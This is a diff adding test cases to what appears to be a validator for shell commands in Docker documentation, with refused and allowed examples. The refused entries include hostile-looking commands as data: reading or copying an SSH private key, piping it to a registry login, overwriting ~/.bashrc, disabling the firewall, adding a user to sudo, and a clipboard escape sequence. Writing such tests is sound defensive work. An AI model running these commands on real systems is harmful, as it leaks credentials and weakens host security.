@@ -177,6 +177,35 @@ REFUSED = {
     ),
     "a function of another page": ('dps() {\n  docker image prune --force "$@"\n}', 0, "defined on docs/tips.md"),
     "a name another page's trap reads": ('name=db\ndocker container logs "$name"', 0, "a trap or function"),
+    "a key read through `<` into the folder": ("cat < ~/.ssh/id_ed25519 > key", 0, "reads `~/.ssh/id_ed25519`"),
+    "a file docker writes by a flag": ("docker container run -d --cidfile ~/.bashrc alpine sleep 60", 0, "`~/.bashrc`"),
+    "a bake file from the block": (
+        "docker buildx bake -f - <<'EOF'\ntarget \"default\" {}\nEOF",
+        0,
+        "reads its file from the block",
+    ),
+    "a Compose file the block writes": ("cat > compose.yaml <<'EOF'\nservices: {}\nEOF", 0, "writes `compose.yaml`"),
+    "a secret for a Dockerfile from the block": (
+        "docker buildx build --secret id=key,src=\"$HOME/.ssh/id_ed25519\" -t tools -f- . <<'EOF'\nFROM alpine\nEOF",
+        0,
+        "hands a secret",
+    ),
+    "a build context from home": ('docker buildx build --build-context home="$HOME" -t tools .', 0, "reads `$HOME`"),
+    "a key into a container": ("docker container cp ~/.ssh/id_ed25519 helper:/in/", 0, "reads `~/.ssh/id_ed25519`"),
+    "a password to any registry": (
+        "head -n 2 ~/.ssh/id_ed25519 | docker login --username deploy --password-stdin registry.example.net",
+        0,
+        "a host data/cli-rules.yaml does not list",
+    ),
+    "a terminal escape": ("printf '\\e]52;c;Y3Vy\\a'", 0, "before a character other than `n` or `t`"),
+    "the installer replaceable before it runs": (
+        "curl -fsSL https://get.docker.com -o get-docker.sh\ndocker container create --name helper nginx\n"
+        "sudo sh get-docker.sh",
+        2,
+        "does not fetch",
+    ),
+    "a service not Docker's": ("sudo systemctl disable --now ufw", 0, "not one of the names"),
+    "a group not Docker's": ("sudo usermod -aG sudo www-data", 0, "not one of the names"),
 }
 
 
@@ -209,6 +238,10 @@ ALLOWED = {
     "a trap's string in single quotes": "trap 'docker container rm -f \"$name\"' EXIT",
     "a copy of the folder's own file": "cp ./compose.yaml compose.backup.yaml",
     "watch of a written command": "watch -n 5 docker container ls",
+    "a token into a listed registry": "cat ~/ghcr-token.txt | docker login ghcr.io -u me --password-stdin",
+    "a build secret from home": 'docker buildx build --secret id=npmrc,src="$HOME/.npmrc" -t myapp .',
+    "an address in a note written here": "echo 'see https://docs.docker.com' > notes.txt",
+    "a container's own paths into a file here": "docker container run --rm alpine ls /etc > files.txt",
 }
 
 
